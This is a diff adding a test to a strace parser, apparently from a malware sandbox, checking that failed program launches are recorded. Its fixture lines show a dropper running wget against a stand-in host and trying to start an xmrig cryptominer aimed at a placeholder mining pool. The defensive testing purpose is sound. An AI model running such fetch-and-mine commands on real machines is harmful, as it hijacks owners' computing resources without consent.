@@ -274,6 +274,30 @@ describe('parseStrace on hostile input', () => {
     expect(b.kills).toEqual([{ pid: 21, target: 22, signal: 'SIGKILL', targetExe: '/bin/sh', ok: true }]);
   });
 
+  it('lists the programs a sample failed to start with their argv, but not the PATH lookups of a shell that then found one', () => {
+    const b = normalise(parseStrace([
+      '30 10:00:00.0 execve("/bin/sh", ["/bin/sh", "/dropper.sh"], 0x0) = 0',
+      '30 10:00:00.1 fork() = 31',
+      // `wget` found on the third PATH directory: two misses that do not count
+      '31 10:00:00.2 execve("/usr/local/sbin/wget", ["wget", "http://203.0.113.5/x"], 0x0) = -1 ENOENT (No such file or directory)',
+      '31 10:00:00.3 execve("/usr/local/bin/wget", ["wget", "http://203.0.113.5/x"], 0x0) = -1 ENOENT (No such file or directory)',
+      '31 10:00:00.4 execve("/usr/bin/wget", ["wget", "http://203.0.113.5/x"], 0x0) = 0',
+      '31 10:00:00.5 exit_group(1) = ?',
+      '30 10:00:00.6 fork() = 32',
+      // the download failed, so the miner it meant to start is not there: the attempt and its argv are kept
+      '32 10:00:00.7 execve("/tmp/xmrig", ["/tmp/xmrig", "-o", "stratum+tcp://pool.example.test:3333", "-u", "44AF"], 0x0) = -1 ENOENT (No such file or directory)',
+      '32 10:00:00.8 exit_group(127) = ?',
+      '30 10:00:00.9 fork() = 33',
+      '33 10:00:01.0 execve("/tmp/kdev", ["/tmp/kdev"], 0x0) = -1 EACCES (Permission denied)',
+      '33 10:00:01.1 execve("/tmp/kdev", ["/tmp/kdev"], 0x0) = -1 EACCES (Permission denied)',
+    ].join('\n')).events, { start: 'all' });
+    expect(b.failedExecs).toEqual([
+      { pid: 32, exe: '/tmp/xmrig', argv: ['/tmp/xmrig', '-o', 'stratum+tcp://pool.example.test:3333', '-u', '44AF'], error: 'ENOENT', atMs: 700 },
+      { pid: 33, exe: '/tmp/kdev', argv: ['/tmp/kdev'], error: 'EACCES', atMs: 1000 },
+    ]);
+    expect(b.processes.map((p) => p.argv[0])).toEqual(['/bin/sh', 'wget', '/bin/sh', '/bin/sh']);
+  });
+
   it('drops runc before the entrypoint and processes outside its tree', () => {
     const b = normalise(parseStrace([
       '10 10:00:00.0 execve("/usr/sbin/runc", ["runc", "run"], 0x0) = 0',
